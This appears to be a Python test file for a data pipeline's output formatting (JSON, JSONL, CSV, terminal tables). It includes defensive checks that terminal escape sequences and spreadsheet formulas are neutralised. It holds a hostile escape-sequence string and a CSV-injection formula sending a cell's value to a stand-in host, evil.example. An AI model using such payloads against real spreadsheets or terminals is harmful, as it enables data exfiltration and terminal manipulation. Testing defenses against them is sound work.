"""What commands print, and what never reaches a terminal or a spreadsheet."""

import csv
import io
import json
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.entrypoints.output import (
    WIDEST_CELL,
    Format,
    as_they_come,
    csv_writer,
    line,
    plain,
    printable,
    rfc3339,
    show,
)
from pipeline.model import Enclosure, Label

AT = datetime(2025, 7, 11, 12, 0, 5, 999_999, tzinfo=UTC)
HOSTILE = "a\x1b[31m\x1b]0;t\x07\x9b1m\x85\u2028\u202eb\u2066\x7f\x00\ud800\rc"
FORMULAS = ("=", "+", "-", "@")


class Terminal(io.StringIO):
    """A stream that says that it is a terminal."""

    def isatty(self) -> bool:
        return True


def shown(*rows: Mapping[str, Any], chosen: Format | None = None) -> str:
    out = io.StringIO()
    show(iter(rows), chosen, out)
    return out.getvalue()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def steers(text: str) -> bool:
    """Whether something in it is not for reading."""
    return any(not c.isprintable() and c not in "\n\t\u00a0" for c in text)


# What is printed


@pytest.mark.parametrize(
    ("moment", "text"),
    [
        pytest.param(AT, "2025-07-11T12:00:05Z", id="UTC, whole seconds"),
        pytest.param(AT.astimezone(timezone(timedelta(hours=9))), "2025-07-11T21:00:05+09:00", id="another zone"),
    ],
)
def test_times_are_rfc_3339(moment: datetime, text: str) -> None:
    assert rfc3339(moment) == text


@dataclass(frozen=True)
class Whole:
    """A value with values in it."""

    at: datetime
    parts: tuple[Enclosure, ...]


@pytest.mark.parametrize(
    ("value", "made"),
    [
        pytest.param(AT, "2025-07-11T12:00:05Z", id="moment"),
        pytest.param(timedelta(minutes=1.5), 90.0, id="duration in seconds"),
        pytest.param(Label.DEFENSE, "defense", id="name"),
        pytest.param((1, None, True, 0.5), [1, None, True, 0.5], id="tuple"),
        pytest.param(frozenset({AT}), ["2025-07-11T12:00:05Z"], id="set"),
        pytest.param({1: {"at": AT}}, {"1": {"at": "2025-07-11T12:00:05Z"}}, id="mapping"),
        pytest.param(
            Whole(AT, (Enclosure("u", None, 5),)),
            {"at": "2025-07-11T12:00:05Z", "parts": [{"url": "u", "type": None, "length": 5}]},
            id="dataclass",
        ),
    ],
)
def test_values_are_printed_as_json_knows_them(value: Any, made: Any) -> None:
    assert plain(value) == made
    assert json.loads(line(value)) == made


ROWS = ({"id": 1, "seen_at": AT, "tags": ("a", "b")}, {"id": 2, "seen_at": None, "tags": ()})
PLAIN = [{"id": 1, "seen_at": "2025-07-11T12:00:05Z", "tags": ["a", "b"]}, {"id": 2, "seen_at": None, "tags": []}]


def test_json_is_one_list() -> None:
    assert json.loads(shown(*ROWS, chosen=Format.JSON)) == PLAIN


def test_jsonl_is_one_line_a_row() -> None:
    assert [json.loads(row) for row in shown(*ROWS, chosen=Format.JSONL).splitlines()] == PLAIN


def test_csv_has_a_header_and_an_empty_cell_for_nothing() -> None:
    assert shown(*ROWS, chosen=Format.CSV) == "id,seen_at,tags\n1,2025-07-11T12:00:05Z,a;b\n2,,\n"


def test_a_table_has_its_names_in_words_and_a_dash_for_nothing() -> None:
    header, first, second = shown(*ROWS, chosen=Format.TABLE).splitlines()
    assert header.split() == ["id", "seen", "at", "tags"]
    assert first.split() == ["1", "2025-07-11T12:00:05Z", "a", "b"]
    assert second.split() == ["2", "-"]


def test_a_table_is_for_terminals_and_jsonl_for_pipes_unless_one_is_chosen() -> None:
    terminal = Terminal()
    show(ROWS, None, terminal)
    assert "seen at" in terminal.getvalue()
    assert shown(*ROWS) == shown(*ROWS, chosen=Format.JSONL)
    chosen = Terminal()
    show(ROWS, Format.CSV, chosen)
    assert chosen.getvalue() == shown(*ROWS, chosen=Format.CSV)


@pytest.mark.parametrize(
    ("chosen", "text"),
    [(Format.TABLE, "nothing found\n"), (Format.JSON, "[]\n"), (Format.JSONL, ""), (Format.CSV, "")],
)
def test_nothing_is_printed_as_nothing(chosen: Format, text: str) -> None:
    assert shown(chosen=chosen) == text


def test_rows_with_other_names_stand_under_their_own() -> None:
    rows = ({"id": 1, "new": 5}, {"id": 2, "old": 6})
    assert cells(shown(*rows, chosen=Format.CSV)) == [["id", "new", "old"], ["1", "5", ""], ["2", "", "6"]]
    table = [row.split() for row in shown(*rows, chosen=Format.TABLE).splitlines()]
    assert table == [["id", "new", "old"], ["1", "5", "-"], ["2", "-", "6"]]


def test_what_has_parts_is_json_in_a_csv_cell() -> None:
    value = {"a": 1, "b": [AT]}
    _, (whole, parts) = cells(shown({"whole": value, "parts": [value]}, chosen=Format.CSV))
    assert json.loads(whole) == plain(value)
    assert json.loads(parts) == [plain(value)]


def test_a_cell_of_a_table_is_one_line_of_bounded_length_without_markup() -> None:
    text = shown({"a": "[bold]one[/bold]\ntwo :smile:"}, chosen=Format.TABLE)
    assert text.splitlines()[1].rstrip() == "[bold]one[/bold] two :smile:"
    long = shown({"a": "x" * 10_000, "b": 0.12345}, chosen=Format.TABLE)
    assert long.count("x") == WIDEST_CELL - 1
    assert "…" in long
    assert "0.12" in long


# What is not


@pytest.mark.parametrize("chosen", Format)
def test_nothing_that_steers_a_terminal_is_printed(chosen: Format) -> None:
    text = shown({"a": HOSTILE, "b": [HOSTILE], "c": {HOSTILE: HOSTILE}}, chosen=chosen)
    assert not steers(text)
    text.encode()  # nor what a stream would refuse


@given(st.text())
@example(HOSTILE)
def test_printable_text_keeps_its_length_and_lines(text: str) -> None:
    made = printable(text)
    assert len(made) == len(text)
    assert all(c == "\n" or c.isprintable() for c in made)
    assert printable(made) == made


@given(st.text())
def test_json_lines_lose_nothing(text: str) -> None:
    made = line({"a": text})
    assert json.loads(made) == {"a": text}
    assert not set("\n\r\x1b\x9b\u202e\u2028") & set(made)


@given(st.text())
@example("=1+1")
@example(" \n=1+1")
@example("\t=1+1")
@example("\r@x")
@example('=HYPERLINK("https://evil.example/"&A1)')
def test_no_csv_cell_is_a_formula_and_no_other_is_changed(text: str) -> None:
    _, (cell,) = cells(shown({"a": text}, chosen=Format.CSV)) if text else ([], [""])
    assert not cell.lstrip().startswith(FORMULAS)
    if text.isprintable() and not text.lstrip().startswith(FORMULAS):
        assert cell == text


def test_numbers_are_no_formulas() -> None:
    assert shown({"a": -1, "b": -0.5}, chosen=Format.CSV) == "a,b\n-1,-0.5\n"


def test_a_list_that_begins_like_a_formula_is_guarded_too() -> None:
    assert shown({"a": ["=1", "=2"]}, chosen=Format.CSV) == "a\n'=1;=2\n"


ENTITIES = [{"name": "F-2", "kind": "aircraft"}, {"name": "ROK Navy", "kind": "force"}]


def test_what_has_a_name_goes_by_it_in_a_table() -> None:
    table = shown({"entities": ENTITIES, "topics": ("weapons", "policy")}, chosen=Format.TABLE)
    assert table.splitlines()[1].split("  ") == ["F-2, ROK Navy", "weapons policy"]
    assert json.loads(shown({"entities": ENTITIES})) == {"entities": ENTITIES}


@pytest.mark.parametrize("chosen", Format)
def test_rows_that_come_one_by_one_look_as_a_listing_does(chosen: Format) -> None:
    out = io.StringIO()
    with as_they_come(tuple(ROWS[0]), chosen, out) as tell:
        for row in ROWS:
            tell(row)
        is_there = bool(out.getvalue())
    assert out.getvalue() == shown(*ROWS, chosen=chosen)
    assert is_there == (chosen in (Format.JSONL, Format.CSV))


def test_a_csv_can_be_written_row_by_row() -> None:
    out = io.StringIO()
    write = csv_writer(out, ("id", "text"))
    write((1, 'a "quoted", text\nof two lines'))
    write((2, "+1"))
    assert cells(out.getvalue()) == [["id", "text"], ["1", 'a "quoted", text\nof two lines'], ["2", "'+1"]]
